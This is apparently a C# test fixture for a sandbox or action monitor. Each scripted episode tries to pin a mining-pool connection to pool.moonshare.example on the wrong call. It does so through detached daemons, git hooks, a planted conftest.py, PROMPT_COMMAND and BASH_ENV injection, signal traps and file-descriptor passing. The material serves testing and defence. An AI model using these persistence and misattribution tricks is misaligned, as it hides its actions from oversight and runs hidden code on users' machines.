namespace Aurelian.LinuxTests.Attacks.Laundering;

/// <summary>
/// Every way tried to let one call's deed look like another's, each an episode of one run. The deed is always the same:
/// a word of a mining protocol to a pool that pays nothing.
/// </summary>
public sealed class LaunderingRun : IAsyncLifetime
{
    private const string Mine = """
        import socket, time, os, sys, ctypes, mmap
        def mine(s=None):
            s = s or socket.create_connection(("pool.moonshare.example", 3333))
            s.sendall(b'{"id":1,"method":"mining.subscribe","params":[]}\n')
            time.sleep(30)
        def ready():
            open("/tmp/ready", "w").close()

        """;

    private const string Wait = "\nuntil [ -e /tmp/ready ]; do sleep 0.05; done; sleep 0.3\n";

    private static readonly (string Name, string[] Calls)[] Scripts =
    [
        ("fifo", [
            "mkfifo /tmp/f\n" + Daemon("ready()\nopen('/tmp/f').read(1)\nmine()"),
            "echo go >/tmp/f; sleep 15"]),
        ("socket", [
            Daemon("""
                l = socket.socket(socket.AF_UNIX); l.bind("/tmp/s"); l.listen(); ready()
                c, _ = l.accept(); c.recv(9)
                mine()
                """),
            Python("s = socket.socket(socket.AF_UNIX); s.connect('/tmp/s'); s.sendall(b'go'); time.sleep(15)")]),
        ("queued-message", [
            Daemon("""
                l = socket.socket(socket.AF_UNIX); l.bind("/tmp/s"); l.listen(); ready()
                while not os.path.exists("/tmp/sent"): time.sleep(0.05)
                c, _ = l.accept(); c.recv(9)
                mine()
                """),
            Python("""
                s = socket.socket(socket.AF_UNIX); s.connect('/tmp/s'); s.sendall(b'go')
                open('/tmp/sent', 'w').close(); time.sleep(15)
                """)]),
        ("loopback", [
            Daemon("""
                l = socket.socket(); l.bind(("127.0.0.1", 8123)); l.listen(); ready()
                l.accept()
                mine()
                """),
            "exec 3<>/dev/tcp/127.0.0.1/8123; sleep 15"]),
        ("inotify", [
            "mkdir /tmp/watched\n" + Daemon("""
                c = ctypes.CDLL(None); fd = c.inotify_init()
                c.inotify_add_watch(fd, b"/tmp/watched", 0x100); ready()
                os.read(fd, 4096)
                mine()
                """),
            "touch /tmp/watched/now; sleep 15"]),
        ("polled-file", [
            Daemon("""
                ready()
                while True:
                    try:
                        if open("/tmp/go").read(): break
                    except OSError: pass
                    time.sleep(0.05)
                mine()
                """),
            "echo go >/tmp/go.new; sleep 0.5; mv /tmp/go.new /tmp/go; sleep 15"]),
        ("sleeping", [
            Daemon("""
                ready(); end = time.time() + 3
                while time.time() < end: time.sleep(0.003)
                mine()
                """),
            // Busy all the while: the timers that wake the sleeper interrupt these, which did nothing.
            "for i in 1 2 3 4; do timeout 15 python3 -c 'while True: pass' & done; wait"]),
        ("signal-trap", [
            "cat >/tmp/m.py <<'EOF'\n" + Mine + "mine()\nEOF\n"
                + "(trap 'python3 /tmp/m.py; exit' USR1; echo $BASHPID >/tmp/pid; touch /tmp/ready; "
                + "while :; do sleep 0.1; done) >/dev/null 2>&1 & disown" + Wait,
            "kill -USR1 $(cat /tmp/pid); sleep 15"]),
        ("exit-trap", [
            "cat >/tmp/m.py <<'EOF'\n" + Mine + "mine()\nEOF\ntrap 'python3 /tmp/m.py' EXIT"]),
        ("open-connection", [
            Daemon("""
                l = socket.socket(socket.AF_UNIX); l.bind("/tmp/s"); l.listen(); ready()
                c, _ = l.accept(); s = socket.create_connection(("pool.moonshare.example", 3333))
                socket.send_fds(c, [b"x"], [s.fileno()])
                time.sleep(30)
                """),
            Python("""
                u = socket.socket(socket.AF_UNIX); u.connect('/tmp/s')
                _, fds, _, _ = socket.recv_fds(u, 9, 1)
                mine(socket.socket(fileno=fds[0]))
                """)]),
        ("unused-socket", [
            Daemon("""
                s = socket.socket()
                l = socket.socket(socket.AF_UNIX); l.bind("/tmp/s"); l.listen(); ready()
                c, _ = l.accept(); socket.send_fds(c, [b"x"], [s.fileno()])
                time.sleep(30)
                """),
            Python("""
                u = socket.socket(socket.AF_UNIX); u.connect('/tmp/s')
                _, fds, _, _ = socket.recv_fds(u, 9, 1)
                s = socket.socket(fileno=fds[0]); s.connect(("pool.moonshare.example", 3333))
                mine(s)
                """)]),
        ("git-hook", [
            "git init -q . && git config user.email a@b.example && git config user.name a\n"
                + "{ echo '#!/usr/bin/python3'; cat <<'EOF'\n" + Mine + "mine()\nEOF\n} >.git/hooks/pre-commit\n"
                + "chmod +x .git/hooks/pre-commit; sleep 0.3",
            "git commit -q --allow-empty -m x"]),
        ("conftest", [
            "cat >conftest.py <<'EOF'\n" + Mine + "mine()\nEOF\nsleep 0.3",
            // What pytest does with it, where pytest is not installed.
            "python3 -m pytest 2>/dev/null || python3 -c 'import sys; sys.path.insert(0, \".\"); import conftest'"]),
        ("prompt-command", [
            "export PROMPT_COMMAND='python3 -c \"" + "import socket,time;"
                + "s=socket.create_connection((\\\"pool.moonshare.example\\\",3333));"
                + "s.sendall(b\\\"{\\\\\\\"method\\\\\\\":\\\\\\\""
                + "mining.subscribe\\\\\\\"}\\\\n\\\");time.sleep(30)\"'",
            "echo true | bash -i"]),
        ("bash-env", [
            "{ echo \"python3 - <<'EOF'\"; cat <<'END'\n" + Mine + "mine()\nEOF\nEND\n} >/tmp/rc; sleep 0.3; "
                + "export BASH_ENV=/tmp/rc",
            "bash -c true"]),
        ("script", [
            "cat >work.py <<'EOF'\n" + Mine + "mine()\nEOF\nsleep 0.3",
            "mv work.py helper.txt",
            "python3 helper.txt"]),
        ("edited-script", [
            "edit:work.py\n" + Mine + "mine()\n",
            "python3 work.py"]),
        ("shared-memory", [
            Daemon("""
                f = open("/dev/shm/flag", "w+b"); f.truncate(4096); m = mmap.mmap(f.fileno(), 4096); ready()
                while m[0] == 0: time.sleep(0.01)
                mine()
                """),
            Python("f = open('/dev/shm/flag', 'r+b'); m = mmap.mmap(f.fileno(), 4096); f.close(); time.sleep(0.5); "
                + "m[0] = 1; time.sleep(15)")]),
        ("memory-file", [
            Daemon("""
                fd = os.memfd_create("x"); os.write(fd, b"#!/usr/bin/python3\n" + open("/tmp/d.py", "rb").read()
                    .split(b"def ready")[0] + b"mine()\n")
                l = socket.socket(socket.AF_UNIX); l.bind("/tmp/s"); l.listen(); ready()
                c, _ = l.accept(); socket.send_fds(c, [b"x"], [fd])
                time.sleep(30)
                """),
            Python("""
                u = socket.socket(socket.AF_UNIX); u.connect('/tmp/s')
                _, fds, _, _ = socket.recv_fds(u, 9, 1)
                exec(os.pread(fds[0], 9999, 0))
                """)]),
    ];

    private IReadOnlyDictionary<string, Episode> _episodes = null!;

    internal Episode this[string name] => _episodes[name];

    public async ValueTask InitializeAsync() => _episodes = await ScriptedRun.ExecuteAsync(
        Repository.Task("todo-done"), Scripts);

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    /// <summary>A process that call 1 leaves behind, and that is waiting when the call ends.</summary>
    private static string Daemon(string body) =>
        $"cat >/tmp/d.py <<'EOF'\n{Mine}{body}\nEOF\nsetsid nohup python3 /tmp/d.py >/dev/null 2>&1 & disown{Wait}";

    private static string Python(string body) => $"python3 - <<'EOF'\n{Mine}{body}\nEOF";
}
